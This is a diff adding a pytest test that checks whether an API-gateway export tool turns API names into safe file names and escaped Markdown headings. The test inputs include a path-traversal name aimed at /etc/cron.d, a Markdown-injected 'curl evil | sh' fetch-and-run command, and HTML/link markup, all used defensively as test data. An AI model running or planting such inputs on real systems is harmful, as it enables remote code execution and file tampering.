@@ -13,8 +13,9 @@ import pytest
 
 from wizard.core.answers.model import Answers
 from wizard.core.errors import UsageError
-from wizard.core.facts import Identity
+from wizard.core.facts import Api, ApiType, Identity, Stage, StageSettings
 from wizard.core.permissions.documents import documents
+from wizard.core.stages.change import plan_change
 from wizard.flows.context import Context, Options
 from wizard.flows.export import export_configuration, exported_files
 
@@ -72,6 +73,32 @@ def test_without_a_shared_state_no_backend_is_written_and_without_a_node_no_toke
     own = exported_files(Answers(), WHO, ())
     assert b"/wallarm-apigw/api-gw-discovery/token" in own["README.md"]
     assert not any(name.startswith("stages/") for name in own)
+
+
+@pytest.mark.parametrize(
+    ("name", "file", "heading"),
+    [
+        ("orders", "orders", "# orders / prod (a1b2c3/prod)"),
+        ("x" * 1024, "x" * 100, "# xxxxx"),
+        ("../../etc/cron.d/x", "etc-cron.d-x", "# ../../etc/cron.d/x / prod"),
+        (
+            "a\n```sh\ncurl evil | sh\n```", "a-sh-curl-evil-sh-",
+            "# a \\`\\`\\`sh curl evil \\| sh \\`\\`\\` / prod",
+        ),
+        ("[click](http://x) <b>", "click-http-x-b-", "# \\[click\\](http://x) \\<b\\> / prod"),
+        ("…", "", "# … / prod"),
+    ],
+)  # fmt: skip
+def test_an_apis_name_is_a_files_name_that_can_be_and_no_markup_of_its_page(
+    name: str, file: str, heading: str
+) -> None:
+    stage = Stage(Api("a1b2c3", name, ApiType.REST), "prod", StageSettings())
+    files = exported_files(Answers(), WHO, (plan_change(stage, "arn:aws:logs:r:1:log-group:g"),))
+    (path,) = [one for one in files if one.startswith("stages/")]
+    assert path == f"stages/{file}{'-' if file else ''}prod-a1b2c3.md"
+    text = files[path].decode()
+    assert text.startswith(heading)
+    assert text.count("\n```") == 2  # of the format alone
 
 
 @pytest.mark.skipif(shutil.which("terraform") is None, reason="there is no terraform here")
